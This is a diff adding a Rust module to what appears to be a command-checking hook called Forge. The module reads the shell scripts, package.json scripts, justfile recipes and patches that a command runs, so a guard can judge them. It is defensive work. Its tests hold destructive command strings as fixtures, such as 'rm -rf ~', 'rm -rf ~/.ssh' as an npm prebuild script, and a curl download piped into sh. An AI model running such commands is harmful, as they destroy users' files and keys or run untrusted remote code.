@@ -1,0 +1,900 @@
+//! Code a command runs from a file, read so it can be judged like the line itself: shell
+//! scripts (run by path, by a shell or sourced), Makefile and justfile recipes, `package.json`
+//! scripts (also ones set earlier on the line with `npm pkg set`), and the files a patch
+//! touches. Files written earlier on the same line are known from the line (`printf … > x.sh;
+//! sh x.sh`), or known to hold downloaded code.
+//!
+//! Reads are bounded — only inside the repository or the temp folder (symlinks resolved
+//! first, so a link out of them is not followed), regular files only (never a FIFO or a
+//! device), at most [`MAX_SOURCE`] bytes each and [`super::walk::MAX_SOURCE_FILES`] files per
+//! line — because the hook runs on every tool call. Code outside the project, too large or
+//! unreadable is [`Opaque`]: unknowable, and said so.
+
+use std::collections::{BTreeMap, HashMap, HashSet};
+use std::io::Read;
+use std::path::{Path, PathBuf};
+
+use super::walk::{Ctx, MAX_SOURCE_BYTES, MAX_SOURCE_FILES, Val, Walker};
+use super::{Arg, Cwd, Invocation, Opaque, Origin, Stdin, Word};
+
+/// Largest file read as code.
+pub const MAX_SOURCE: usize = 256 * 1024;
+
+/// A code file an interpreter runs from the temp folder, read the same bounded way (regular
+/// file, at most [`MAX_SOURCE`] bytes, UTF-8), for the rules to judge like inline code.
+pub fn read_code_file(path: &Path) -> Option<String> {
+    let m = std::fs::metadata(path).ok()?;
+    if !m.is_file() || m.len() as usize > MAX_SOURCE {
+        return None;
+    }
+    let mut b = Vec::new();
+    std::fs::File::open(path)
+        .ok()?
+        .take(MAX_SOURCE as u64)
+        .read_to_end(&mut b)
+        .ok()?;
+    String::from_utf8(b).ok()
+}
+
+/// What is known of a file's content.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Content {
+    Text(String),
+    /// Written by a downloader earlier on the line: code from the network.
+    Downloaded,
+    /// Cannot be known; why.
+    Unknown(String),
+    /// Does not exist (and was not written earlier on the line): nothing runs.
+    Missing,
+    /// Written earlier on the line by `git diff`: a patch of the repository's own files (as
+    /// code, unknowable).
+    RepoDiff,
+}
+
+impl Walker<'_> {
+    /// The content of a file a command runs or reads as code.
+    pub(super) fn file_content(&mut self, path: &Path) -> Content {
+        let real = crate::guard::paths::real(path);
+        if let Some(c) = self.files.get(&real).or_else(|| self.files.get(path)) {
+            return c.clone();
+        }
+        let meta = match std::fs::metadata(&real) {
+            Ok(m) => m,
+            Err(_) => return Content::Missing,
+        };
+        let inside = real.starts_with(&self.env.root)
+            || (real.starts_with(&self.env.temp) && !real.starts_with(&self.env.home));
+        if !inside {
+            return Content::Unknown(format!(
+                "{} is outside the project, where Forge does not read code",
+                real.display()
+            ));
+        }
+        if !meta.is_file() {
+            return Content::Unknown(format!("{} is not a regular file", real.display()));
+        }
+        if meta.len() as usize > MAX_SOURCE {
+            return Content::Unknown(format!(
+                "{} is larger than {} KiB",
+                real.display(),
+                MAX_SOURCE / 1024
+            ));
+        }
+        if self.files_read >= MAX_SOURCE_FILES
+            || self.bytes_read + meta.len() as usize > MAX_SOURCE_BYTES
+        {
+            return Content::Unknown("the line runs more code files than Forge reads".into());
+        }
+        let mut bytes = Vec::new();
+        let read = std::fs::File::open(&real)
+            .and_then(|f| f.take(MAX_SOURCE as u64).read_to_end(&mut bytes));
+        if let Err(e) = read {
+            return Content::Unknown(format!("cannot read {}: {e}", real.display()));
+        }
+        self.files_read += 1;
+        self.bytes_read += bytes.len();
+        match String::from_utf8(bytes) {
+            Ok(s) => Content::Text(s),
+            // Binaries are programs, not scripts: the caller treats them by name.
+            Err(_) => Content::Text("\u{7f}ELF".into()),
+        }
+    }
+
+    /// Runs a shell script: a fresh shell (or, `sourced`, this one) walks its text.
+    pub(super) fn run_script(
+        &mut self,
+        script: &Word,
+        args: &[Word],
+        ctx: &mut Ctx,
+        depth: usize,
+        sourced: bool,
+    ) {
+        let raw = match &script.arg {
+            Arg::Lit(s) => s.clone(),
+            Arg::Dyn { raw, programs } => {
+                self.out.opaque.push(Opaque {
+                    what: raw.clone(),
+                    why: "its path is computed at run time".into(),
+                    downloaded: programs.iter().any(|p| is_downloader(p)),
+                    origin: ctx.origin.clone(),
+                });
+                return;
+            }
+        };
+        let Some(path) = self.locate(&raw, ctx) else {
+            self.out.opaque.push(Opaque {
+                what: raw,
+                why: "it runs in a folder Forge cannot know".into(),
+                downloaded: false,
+                origin: ctx.origin.clone(),
+            });
+            return;
+        };
+        let text = match self.file_content(&path) {
+            Content::Text(t) => t,
+            Content::Missing => return,
+            Content::Downloaded => {
+                self.out.opaque.push(Opaque {
+                    what: raw,
+                    why: "it was downloaded earlier on this line".into(),
+                    downloaded: true,
+                    origin: ctx.origin.clone(),
+                });
+                return;
+            }
+            Content::Unknown(why) => {
+                self.out.opaque.push(Opaque {
+                    what: raw,
+                    why,
+                    downloaded: false,
+                    origin: ctx.origin.clone(),
+                });
+                return;
+            }
+            Content::RepoDiff => {
+                self.out.opaque.push(Opaque {
+                    what: raw,
+                    why: "it is the output of `git diff`, written earlier on this line".into(),
+                    downloaded: false,
+                    origin: ctx.origin.clone(),
+                });
+                return;
+            }
+        };
+        if text.starts_with("\u{7f}ELF") {
+            return;
+        }
+        let mut positional = vec![raw.clone()];
+        positional.extend(args.iter().map(|a| a.arg.display().to_string()));
+        let origin = Origin::Script(crate::guard::paths::real(&path));
+        if sourced {
+            let saved = (ctx.positional.take(), ctx.origin.clone());
+            ctx.positional = Some(positional);
+            ctx.origin = origin;
+            self.line(&text, ctx, depth + 1);
+            ctx.positional = saved.0;
+            ctx.origin = saved.1;
+        } else {
+            let mut child = ctx.child(origin);
+            child.positional = Some(positional);
+            self.line(&text, &mut child, depth + 1);
+        }
+    }
+
+    /// A path a command names, in the folder it runs in (the first of several candidates).
+    pub(super) fn locate(&self, raw: &str, ctx: &Ctx) -> Option<PathBuf> {
+        if Path::new(raw).is_absolute() {
+            return Some(PathBuf::from(raw));
+        }
+        ctx.cwd.paths().first().map(|c| c.join(raw))
+    }
+
+    /// Records what is known of the files a command just wrote through redirections, so a
+    /// later `sh x.sh` on the same line can be judged.
+    pub(super) fn note_written(&mut self, first_write: usize, inv: Option<&Invocation>) {
+        let content = match inv {
+            Some(i) if i.name().is_some_and(is_downloader) => Content::Downloaded,
+            Some(i)
+                if i.name() == Some("git")
+                    && i.lit_args().flatten().find(|a| !a.starts_with('-')) == Some("diff") =>
+            {
+                Content::RepoDiff
+            }
+            Some(i) => match printed_text(i, &self.files) {
+                Some(t) => Content::Text(t),
+                None => {
+                    Content::Unknown("written at run time by a command Forge cannot replay".into())
+                }
+            },
+            None => Content::Unknown("written by a compound command".into()),
+        };
+        let targets: Vec<PathBuf> = self.out.writes[first_write..]
+            .iter()
+            .filter_map(|r| {
+                let raw = r.target.arg.lit()?;
+                let cwd = r.cwd.one()?;
+                Some(crate::guard::paths::real(&cwd.join(raw)))
+            })
+            .collect();
+        for t in targets {
+            self.files.insert(t, content.clone());
+        }
+    }
+
+    /// Files a command copies, moves or `tee`s earlier on the line: known when their source is,
+    /// unknown otherwise (a later `sh x.sh` must not find "nothing there").
+    pub(super) fn note_copies(&mut self, inv: &Invocation) {
+        let Some(name) = inv.name() else { return };
+        let Some(cwd) = inv.cwd.one().map(Path::to_path_buf) else {
+            return;
+        };
+        let ops: Vec<&str> = inv
+            .args
+            .iter()
+            .filter_map(|w| w.arg.lit())
+            .filter(|a| !a.starts_with('-'))
+            .collect();
+        let (sources, dests): (Vec<&str>, Vec<&str>) = match name {
+            "cp" | "mv" | "install" | "ln" | "rsync" if ops.len() >= 2 => {
+                (ops[..ops.len() - 1].to_vec(), vec![ops[ops.len() - 1]])
+            }
+            "tee" | "sponge" => (vec![], ops.clone()),
+            "dd" => (
+                inv.lit_args()
+                    .flatten()
+                    .filter_map(|a| a.strip_prefix("if="))
+                    .collect(),
+                inv.lit_args()
+                    .flatten()
+                    .filter_map(|a| a.strip_prefix("of="))
+                    .collect(),
+            ),
+            _ => return,
+        };
+        let content = if matches!(name, "tee" | "sponge") {
+            match &inv.stdin {
+                Stdin::Text(Arg::Lit(t)) => Content::Text(t.clone()),
+                _ => Content::Unknown("written from input Forge cannot know".into()),
+            }
+        } else if let [one] = sources.as_slice() {
+            match self.file_content(&cwd.join(one)) {
+                Content::Missing => {
+                    Content::Unknown(format!("copied from {one}, which Forge cannot find"))
+                }
+                c => c,
+            }
+        } else {
+            Content::Unknown(format!("written by `{name}` earlier on this line"))
+        };
+        for d in dests {
+            let mut p = crate::guard::paths::real(&cwd.join(d));
+            if p.is_dir()
+                && let Some(src) = sources.first()
+            {
+                p = p.join(Path::new(src).file_name().unwrap_or_default());
+            }
+            self.files.insert(p, content.clone());
+        }
+    }
+
+    /// `curl -o x`, `wget -O x`: files a downloader writes.
+    pub(super) fn note_downloads(&mut self, inv: &Invocation) {
+        let Some(name) = inv.name() else { return };
+        if !is_downloader(name) {
+            return;
+        }
+        let Some(cwd) = inv.cwd.one().map(Path::to_path_buf) else {
+            return;
+        };
+        // curl writes `-o FILE`; wget `-O FILE` (its `-o` is a log); either may sit at the end
+        // of a cluster (`-sSLo x`, `-qO x`) or be attached (`-ox`).
+        let letter = if name == "wget" { 'O' } else { 'o' };
+        let mut it = inv.args.iter().peekable();
+        while let Some(w) = it.next() {
+            let Some(a) = w.arg.lit() else { continue };
+            let value = if a == "--output" || a == "--output-document" {
+                it.peek().and_then(|n| n.arg.lit()).map(str::to_string)
+            } else if let Some(v) = a
+                .strip_prefix("--output=")
+                .or_else(|| a.strip_prefix("--output-document="))
+            {
+                Some(v.to_string())
+            } else if a.starts_with('-') && !a.starts_with("--") && a.len() > 1 {
+                match a[1..].find(letter) {
+                    Some(p) if p + 2 == a.len() => {
+                        it.peek().and_then(|n| n.arg.lit()).map(str::to_string)
+                    }
+                    Some(p) => Some(a[p + 2..].to_string()),
+                    None => None,
+                }
+            } else {
+                None
+            };
+            if let Some(v) = value
+                && v != "-"
+            {
+                self.files
+                    .insert(crate::guard::paths::real(&cwd.join(v)), Content::Downloaded);
+            }
+        }
+    }
+
+    /// `npm run x`, `npm test`, `yarn x`, `pnpm x`, `bun run x`, `npm install` (the project's
+    /// own lifecycle scripts): the scripts of the nearest `package.json`, with their
+    /// `pre`/`post` scripts.
+    pub(super) fn package_scripts(
+        &mut self,
+        tool: &str,
+        args: &[Word],
+        ctx: &mut Ctx,
+        depth: usize,
+    ) {
+        let lits: Vec<Option<&str>> = args.iter().map(|w| w.arg.lit()).collect();
+        let mut prefix: Option<String> = None;
+        let mut rest: Vec<Option<&str>> = Vec::new();
+        let mut i = 0;
+        while i < lits.len() {
+            match lits[i] {
+                Some("--prefix" | "-C" | "--cwd" | "--dir") => {
+                    prefix = lits.get(i + 1).copied().flatten().map(str::to_string);
+                    i += 2;
+                    continue;
+                }
+                Some(a)
+                    if a.starts_with("--prefix=")
+                        || a.starts_with("--cwd=")
+                        || a.starts_with("--dir=") =>
+                {
+                    prefix = a.split_once('=').map(|(_, v)| v.to_string());
+                }
+                Some("--") => {
+                    rest.extend(lits[i..].iter().copied());
+                    break;
+                }
+                Some(a) if a.starts_with('-') && rest.is_empty() => {}
+                other => rest.push(other),
+            }
+            i += 1;
+        }
+        // `npm pkg set scripts.x=…`: a script planted for later; judged now as what it runs.
+        if rest.first() == Some(&Some("pkg")) && rest.get(1) == Some(&Some("set")) {
+            for a in rest.iter().skip(2).flatten() {
+                if let Some((k, v)) = a.split_once('=')
+                    && let Some(name) = k.strip_prefix("scripts.")
+                {
+                    self.package_scripts.insert(name.to_string(), v.to_string());
+                    let mut child = ctx.child(ctx.origin.clone());
+                    self.line(v, &mut child, depth + 1);
+                }
+            }
+            return;
+        }
+        let sub = rest.first().copied().flatten();
+        const BUILTIN: [&str; 24] = [
+            "add",
+            "remove",
+            "rm",
+            "uninstall",
+            "upgrade",
+            "update",
+            "outdated",
+            "ls",
+            "list",
+            "view",
+            "info",
+            "audit",
+            "init",
+            "create",
+            "why",
+            "link",
+            "pack",
+            "publish",
+            "login",
+            "logout",
+            "config",
+            "cache",
+            "dlx",
+            "exec",
+        ];
+        let scripts: Vec<String> = match (tool, sub) {
+            (_, Some("run" | "run-script" | "rum" | "urn")) => match rest.get(1) {
+                Some(Some(name)) => vec![name.to_string()],
+                Some(None) => vec!["$(unknown)".into()],
+                None => vec![],
+            },
+            ("npm" | "yarn" | "pnpm", Some("test" | "t" | "tst")) => vec!["test".into()],
+            ("bun", Some("test")) => vec![],
+            (_, Some("start")) => vec!["start".into()],
+            (_, Some("stop")) => vec!["stop".into()],
+            (_, Some("restart")) => vec!["restart".into()],
+            (_, Some("install" | "i" | "ci" | "add")) if rest.len() == 1 => vec![
+                "preinstall".into(),
+                "install".into(),
+                "postinstall".into(),
+                "prepare".into(),
+            ],
+            ("yarn", None) | ("pnpm", Some("install" | "i")) => {
+                vec![
+                    "preinstall".into(),
+                    "install".into(),
+                    "postinstall".into(),
+                    "prepare".into(),
+                ]
+            }
+            ("yarn" | "pnpm" | "bun", Some(name))
+                if !BUILTIN.contains(&name) && name != "install" =>
+            {
+                vec![name.to_string()]
+            }
+            (_, None) if rest.len() > 1 => vec!["$(unknown)".into()],
+            _ => vec![],
+        };
+        if scripts.is_empty() {
+            return;
+        }
+        let base = match (&prefix, ctx.cwd.one()) {
+            (Some(p), Some(c)) => Some(c.join(p)),
+            (None, Some(c)) => Some(c.to_path_buf()),
+            _ => None,
+        };
+        let Some(base) = base else {
+            self.out.opaque.push(Opaque {
+                what: format!("{tool} {}", sub.unwrap_or("")),
+                why: "it runs in a folder Forge cannot know".into(),
+                downloaded: false,
+                origin: ctx.origin.clone(),
+            });
+            return;
+        };
+        // The nearest package.json up the tree, as npm finds it.
+        let mut found: Option<(PathBuf, BTreeMap<String, String>)> = None;
+        for dir in base.ancestors() {
+            let p = dir.join("package.json");
+            match self.file_content(&p) {
+                Content::Missing => {}
+                Content::Text(t) => {
+                    let map = serde_json::from_str::<serde_json::Value>(&t)
+                        .ok()
+                        .and_then(|v| v.get("scripts").cloned())
+                        .and_then(|s| s.as_object().cloned())
+                        .map(|o| {
+                            o.into_iter()
+                                .filter_map(|(k, v)| v.as_str().map(|s| (k, s.to_string())))
+                                .collect()
+                        })
+                        .unwrap_or_default();
+                    found = Some((p, map));
+                    break;
+                }
+                _ => {
+                    self.out.opaque.push(Opaque {
+                        what: format!("{tool} scripts ({})", p.display()),
+                        why: "its package.json cannot be read".into(),
+                        downloaded: false,
+                        origin: ctx.origin.clone(),
+                    });
+                    return;
+                }
+            }
+            if dir == self.env.root || !dir.starts_with(&self.env.root) {
+                break;
+            }
+        }
+        let (file, mut map) = found.unwrap_or_else(|| (base.join("package.json"), BTreeMap::new()));
+        for (k, v) in &self.package_scripts {
+            map.insert(k.clone(), v.clone());
+        }
+        let dir = file.parent().map(Path::to_path_buf).unwrap_or(base);
+        for name in scripts {
+            if name.contains('$') {
+                self.out.opaque.push(Opaque {
+                    what: format!("{tool} run …"),
+                    why: "the script's name is computed at run time".into(),
+                    downloaded: false,
+                    origin: ctx.origin.clone(),
+                });
+                continue;
+            }
+            for n in [format!("pre{name}"), name.clone(), format!("post{name}")] {
+                let Some(text) = map.get(&n) else { continue };
+                let mut child = ctx.child(Origin::Package {
+                    file: file.clone(),
+                    script: n.clone(),
+                });
+                child.cwd = Cwd::at(&dir);
+                child.set("npm_lifecycle_event", Val::Known(n.clone()));
+                self.line(text, &mut child, depth + 1);
+            }
+        }
+    }
+
+    /// `just [recipe]`: the recipe's lines (and its dependencies').
+    pub(super) fn just(&mut self, args: &[Word], ctx: &mut Ctx, depth: usize) {
+        let Some(dir) = ctx.cwd.one().map(Path::to_path_buf) else {
+            return;
+        };
+        let candidates: Vec<PathBuf> = ["justfile", "Justfile", ".justfile"]
+            .iter()
+            .map(|n| dir.join(n))
+            .collect();
+        let Some((path, text)) = self.first_readable(&candidates, "just", ctx) else {
+            return;
+        };
+        let recipes = parse_justfile(&text);
+        let wanted: Vec<String> = args
+            .iter()
+            .filter_map(|w| w.arg.lit())
+            .filter(|a| !a.starts_with('-') && !a.contains('='))
+            .take(1)
+            .map(str::to_string)
+            .collect();
+        let goals = if wanted.is_empty() {
+            recipes
+                .first()
+                .map(|r| vec![r.0.clone()])
+                .unwrap_or_default()
+        } else {
+            wanted
+        };
+        let mut seen = HashSet::new();
+        let mut stack = goals;
+        while let Some(g) = stack.pop() {
+            if !seen.insert(g.clone()) || seen.len() > 64 {
+                continue;
+            }
+            let Some((_, deps, lines)) = recipes.iter().find(|r| r.0 == g) else {
+                continue;
+            };
+            stack.extend(deps.iter().cloned());
+            for l in lines {
+                let l = l.trim_start_matches(['@', '-']);
+                let text = l.replace("{{", "${__forge_just_").replace("}}", "}");
+                let mut child = ctx.child(Origin::Make {
+                    file: path.clone(),
+                    target: g.clone(),
+                });
+                child.cwd = Cwd::at(&dir);
+                self.line(&text, &mut child, depth + 1);
+            }
+        }
+    }
+
+    /// The files a patch changes (`git apply`, `git am`, `patch`): recorded as writes of the
+    /// patching command. A patch Forge cannot read is unknowable.
+    pub(super) fn patch_writes(&mut self, inv_index: usize, source: PatchSource, ctx: &Ctx) {
+        let text = match source {
+            PatchSource::Text(t) => t,
+            PatchSource::File(path) => match self.file_content(&path) {
+                Content::Text(t) => t,
+                // The repository's own changes, applied back: they touch its tracked files.
+                Content::Missing | Content::RepoDiff => return,
+                _ => {
+                    self.out.opaque.push(Opaque {
+                        what: format!("the patch {}", path.display()),
+                        why: "Forge cannot read it to see which files it changes".into(),
+                        downloaded: false,
+                        origin: ctx.origin.clone(),
+                    });
+                    return;
+                }
+            },
+            PatchSource::Unknown(what) => {
+                self.out.opaque.push(Opaque {
+                    what,
+                    why: "the patch comes from a source Forge cannot read".into(),
+                    downloaded: false,
+                    origin: ctx.origin.clone(),
+                });
+                return;
+            }
+        };
+        for f in patch_files(&text) {
+            self.out.writes.push(super::Redirect {
+                target: Word::lit(f),
+                cwd: Cwd::at(&self.env.root).either(&ctx.cwd),
+                by: Some(inv_index),
+                origin: ctx.origin.clone(),
+            });
+        }
+    }
+}
+
+/// Where a patch comes from.
+pub(super) enum PatchSource {
+    Text(String),
+    File(PathBuf),
+    Unknown(String),
+}
+
+/// The files a unified diff or git patch touches (both sides, `/dev/null` and the `a/`/`b/`
+/// prefixes removed).
+pub(super) fn patch_files(text: &str) -> Vec<String> {
+    let mut out: Vec<String> = Vec::new();
+    for l in text.lines() {
+        let name = if let Some(r) = l.strip_prefix("+++ ").or_else(|| l.strip_prefix("--- ")) {
+            r.split('\t').next().unwrap_or(r).trim().to_string()
+        } else if let Some(r) = l.strip_prefix("diff --git ") {
+            for part in r.split_whitespace() {
+                push_patch_name(&mut out, part);
+            }
+            continue;
+        } else if let Some(r) = l
+            .strip_prefix("rename to ")
+            .or_else(|| l.strip_prefix("copy to "))
+        {
+            r.trim().to_string()
+        } else {
+            continue;
+        };
+        push_patch_name(&mut out, &name);
+    }
+    out
+}
+
+fn push_patch_name(out: &mut Vec<String>, name: &str) {
+    if name == "/dev/null" || name.is_empty() {
+        return;
+    }
+    let n = name
+        .strip_prefix("a/")
+        .or_else(|| name.strip_prefix("b/"))
+        .unwrap_or(name)
+        .to_string();
+    if !out.contains(&n) {
+        out.push(n);
+    }
+}
+
+pub(super) fn is_downloader(p: &str) -> bool {
+    matches!(
+        p,
+        "curl" | "wget" | "fetch" | "aria2c" | "http" | "https" | "xh" | "scp" | "rsync"
+    )
+}
+
+/// What a command prints, when it is known without running it: `echo`, `printf`, `cat` of a
+/// here-document or of a file written earlier on the line.
+pub(super) fn printed_text(inv: &Invocation, files: &HashMap<PathBuf, Content>) -> Option<String> {
+    let args: Vec<&str> = inv.lit_args().collect::<Option<Vec<_>>>()?;
+    match inv.name()? {
+        "echo" => {
+            let mut newline = true;
+            let mut escapes = false;
+            let mut i = 0;
+            while i < args.len()
+                && args[i].starts_with('-')
+                && args[i].len() > 1
+                && args[i][1..].chars().all(|c| "neE".contains(c))
+            {
+                newline &= !args[i].contains('n');
+                escapes |= args[i].contains('e');
+                i += 1;
+            }
+            let mut s = args[i..].join(" ");
+            if escapes {
+                s = super::ansi_c(&s);
+            }
+            if newline {
+                s.push('\n');
+            }
+            Some(s)
+        }
+        "printf" => {
+            let start = usize::from(args.first() == Some(&"--"));
+            let fmt = *args.get(start)?;
+            Some(printf(fmt, &args[start + 1..]))
+        }
+        "cat" | "tee" if args.iter().all(|a| a.starts_with('-')) || inv.name() == Some("tee") => {
+            match &inv.stdin {
+                Stdin::Text(Arg::Lit(t)) => Some(t.clone()),
+                _ => None,
+            }
+        }
+        "cat" => {
+            let cwd = inv.cwd.one()?;
+            let mut out = String::new();
+            for a in args.iter().filter(|a| !a.starts_with('-')) {
+                match files.get(&crate::guard::paths::real(&cwd.join(a))) {
+                    Some(Content::Text(t)) => out.push_str(t),
+                    _ => return None,
+                }
+            }
+            Some(out)
+        }
+        "true" | ":" => Some(String::new()),
+        _ => None,
+    }
+}
+
+/// `printf FORMAT ARGS…`, enough for scripts written with it: `%s`, `%d`, `%b`, `%%`, and the
+/// format reused while arguments remain.
+fn printf(fmt: &str, args: &[&str]) -> String {
+    let fmt = super::ansi_c(fmt);
+    let mut out = String::new();
+    let mut next = 0;
+    loop {
+        let mut chars = fmt.chars().peekable();
+        let mut used = false;
+        while let Some(c) = chars.next() {
+            if c != '%' {
+                out.push(c);
+                continue;
+            }
+            // Skip flags and widths.
+            while chars.peek().is_some_and(|c| "-+ #0123456789.".contains(*c)) {
+                chars.next();
+            }
+            match chars.next() {
+                Some('%') => out.push('%'),
+                Some('b') => {
+                    out.push_str(&super::ansi_c(args.get(next).copied().unwrap_or("")));
+                    next += 1;
+                    used = true;
+                }
+                Some(_) => {
+                    out.push_str(args.get(next).copied().unwrap_or(""));
+                    next += 1;
+                    used = true;
+                }
+                None => out.push('%'),
+            }
+        }
+        if !used || next >= args.len() {
+            break;
+        }
+    }
+    out
+}
+
+/// `name args: deps` recipes of a justfile, with their indented lines.
+fn parse_justfile(text: &str) -> Vec<(String, Vec<String>, Vec<String>)> {
+    let mut out: Vec<(String, Vec<String>, Vec<String>)> = Vec::new();
+    for line in text.lines() {
+        if line.starts_with([' ', '\t']) {
+            if let Some(last) = out.last_mut()
+                && !line.trim().is_empty()
+            {
+                last.2.push(line.trim().to_string());
+            }
+            continue;
+        }
+        let t = line.trim();
+        if t.is_empty() || t.starts_with('#') || t.starts_with("set ") || t.contains(":=") {
+            continue;
+        }
+        if let Some((head, deps)) = t.split_once(':') {
+            let name = head
+                .split_whitespace()
+                .next()
+                .unwrap_or("")
+                .trim_start_matches('@');
+            if name.is_empty() {
+                continue;
+            }
+            out.push((
+                name.to_string(),
+                deps.split_whitespace().map(str::to_string).collect(),
+                Vec::new(),
+            ));
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+pub(super) mod tests {
+    use super::super::{Analysis, Env, Origin, analyze_in};
+    use super::*;
+
+    pub(crate) fn repo(files: &[(&str, &str)]) -> (tempfile::TempDir, PathBuf) {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path().canonicalize().unwrap().join("repo");
+        for (p, body) in files {
+            let f = root.join(p);
+            std::fs::create_dir_all(f.parent().unwrap()).unwrap();
+            std::fs::write(f, body).unwrap();
+        }
+        std::fs::create_dir_all(&root).unwrap();
+        (dir, root)
+    }
+
+    pub(crate) fn run_in(root: &Path, line: &str) -> Analysis {
+        let env = Env {
+            home: PathBuf::from("/home/u"),
+            root: root.to_path_buf(),
+            temp: PathBuf::from("/tmp"),
+        };
+        analyze_in(line, root, &env)
+    }
+
+    pub(crate) fn has(a: &Analysis, prog: &str, arg: &str) -> bool {
+        a.invocations
+            .iter()
+            .any(|i| i.name() == Some(prog) && i.lit_args().any(|x| x == Some(arg)))
+    }
+
+    #[test]
+    fn scripts_are_read_and_walked() {
+        let (_d, root) = repo(&[(
+            "scripts/x.sh",
+            "#!/bin/sh\ncd \"$(dirname \"$0\")/..\"\nrm -rf build\n",
+        )]);
+        for line in [
+            "bash scripts/x.sh",
+            "sh ./scripts/x.sh",
+            ". scripts/x.sh",
+            "./scripts/x.sh",
+        ] {
+            let a = run_in(&root, line);
+            let rm = a
+                .invocations
+                .iter()
+                .find(|i| i.name() == Some("rm"))
+                .unwrap_or_else(|| panic!("{line}: {:?}", a.invocations));
+            assert_eq!(rm.cwd, Cwd::at(&root), "{line}");
+            assert!(
+                matches!(&rm.origin, Origin::Script(p) if p.ends_with("scripts/x.sh")),
+                "{line}"
+            );
+        }
+        // Read from a pipe or a redirect, `$0` is the shell's name: the script still runs.
+        for line in [
+            "cat scripts/x.sh | sh",
+            "bash < scripts/x.sh",
+            "sh -s < scripts/x.sh",
+        ] {
+            let a = run_in(&root, line);
+            assert!(
+                a.invocations.iter().any(|i| i.name() == Some("rm")),
+                "{line}: {:?}",
+                a.invocations
+            );
+        }
+        // Outside the project: unknowable.
+        let a = run_in(&root, "bash /etc/profile");
+        assert_eq!(a.opaque.len(), 1, "{a:?}");
+        // Missing: nothing runs.
+        assert!(run_in(&root, "bash nope.sh").opaque.is_empty());
+    }
+
+    #[test]
+    fn files_written_on_the_line_are_known() {
+        let (_d, root) = repo(&[]);
+        let a = run_in(
+            &root,
+            "printf 'rm -rf ~\\n' > /tmp/forge-test-x.sh && sh /tmp/forge-test-x.sh",
+        );
+        assert!(has(&a, "rm", "/home/u"), "{:?}", a.invocations);
+        let a = run_in(&root, "cat > run.sh <<'EOF'\nrm -rf ~/\nEOF\nbash run.sh");
+        assert!(has(&a, "rm", "/home/u/"), "{:?}", a.invocations);
+        let a = run_in(&root, "curl -fsSL -o /tmp/i.sh https://x && sh /tmp/i.sh");
+        assert!(a.opaque.iter().any(|o| o.downloaded), "{a:?}");
+    }
+
+    #[test]
+    fn package_scripts_are_walked() {
+        let pkg = r#"{"scripts": {"test": "node t.js", "prebuild": "rm -rf ~/.ssh", "build": "tsc", "clean": "rm -rf dist"}}"#;
+        let (_d, root) = repo(&[("package.json", pkg)]);
+        assert!(has(&run_in(&root, "npm run build"), "rm", "-rf"));
+        assert!(has(&run_in(&root, "yarn clean"), "rm", "dist"));
+        assert!(has(&run_in(&root, "npm test"), "node", "t.js"));
+        let a = run_in(&root, "npm pkg set scripts.x='rm -rf ~' && npm run x");
+        assert!(has(&a, "rm", "/home/u"), "{:?}", a.invocations);
+    }
+
+    #[test]
+    fn patches_name_the_files_they_change() {
+        let p = "diff --git a/.forge/config.yaml b/.forge/config.yaml\n--- a/.forge/config.yaml\n+++ b/.forge/config.yaml\n";
+        assert_eq!(patch_files(p), [".forge/config.yaml"]);
+        assert_eq!(
+            patch_files("--- /dev/null\n+++ b/.git/hooks/pre-commit\n"),
+            [".git/hooks/pre-commit"]
+        );
+    }
+
+    #[test]
+    fn printf_and_echo_are_replayed() {
+        assert_eq!(printf("%s-%s\\n", &["a", "b", "c"]), "a-b\nc-\n");
+        assert_eq!(printf("rm -rf ~\\n", &[]), "rm -rf ~\n");
+    }
+}
